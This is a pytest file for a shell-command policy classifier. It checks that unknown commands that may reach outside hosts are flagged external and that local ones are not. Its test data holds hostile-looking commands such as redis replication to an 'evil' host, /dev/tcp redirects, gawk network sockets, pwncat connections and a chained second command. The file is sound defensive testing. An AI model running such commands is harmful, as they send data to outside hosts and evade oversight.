"""Commands that are not known well enough wait for the door to the outside too, when they may send."""

import pytest

from tenant_daemon.policy import PolicyContext, classify

SENDING = [
    "gem push x.gem", "hatch publish", "mvn deploy", "crane push a b", "frobnicate upload report.pdf",
    "python3 send.py", "python3 -c 'import smtplib'", "node -e 'fetch(1)'", "php -r 'mail(1)'",
    "hg push", "svn commit -m x", "foo --to anna@example.com", "foo https://x.example", "foo host:path",
    "./deploy.sh", "tar cf host:a b", "ping -p ff x.example", "docker login x", "gpg --send-keys x",
    "redis-cli replicaof evil 6379",
    "go get example.com/x", "logger --server evil.example x",
    "pg_basebackup -h evil -D x", "foo > /dev/tcp/x.example/1",
    "gnutls-cli evil.example", "pwncat 6.6.6.6 1", "ipmitool -H a.evil.com power status", "postqueue -f",
    "docker buildx imagetools create -t a b", "docker --context other ps",
    "docker exec git gitea manager flush-queues", "psql service=other -c 'select 1'",
    "docker exec kc kcadm.sh update users/1/execute-actions-email -r x",
    "docker exec nc php occ user:delete push", "docker exec nc occ user:delete anna; foo user:delete",
    "docker exec nc php occ user:deleted:x", "docker exec nc php occ app:enable x",
    "while :; do curl -d x http://x.example; done",
    "awk 'BEGIN{s=\"/inet/tcp/0/x.example/80\"; print 1 |& s}'",
    "gawk 'BEGIN{\"/inet4/udp/0/x/53\" |& getline}'",
    "ipfs add a.pdf", "wandb sync .", "kaggle datasets create -p .", "onionshare-cli a.pdf",
    "linode-cli linodes list",
    "salt '*' test.ping", "caddy file-server --listen :8000", "php -S 0.0.0.0:8000",
]  # fmt: skip
STAYING = [
    "docker exec nc php occ user:delete anna",
    "docker exec nc php occ group:removeuser team anna",
    "frobnicate a.txt",
    "frobnicate 127.0.0.1",
    "frobnicate v1.2.3 a.b.c lib/x.com.txt",
    "make",
    "vim notes.md",
    "sqlite3 -init x a.db",
    "chattr +i a.txt",
]


@pytest.mark.parametrize("line", SENDING)
def test_what_may_send_is_external(line: str, context: PolicyContext) -> None:
    judgement = classify("shell", {"command": line}, context)
    assert judgement.is_external
    assert judgement.is_unknown


@pytest.mark.parametrize("line", STAYING)
def test_what_is_only_unknown_is_not(line: str, context: PolicyContext) -> None:
    judgement = classify("shell", {"command": line}, context)
    assert judgement.is_unknown
    assert not judgement.is_external


@pytest.mark.parametrize("command", ["gh repo delete a/b", "gh secret set x", "twine register x", "gh foo"])
def test_an_unknown_part_of_a_program_that_reaches_outside_does_so_too(
    context: PolicyContext, command: str
) -> None:
    assert classify("shell", {"command": command}, context).is_external
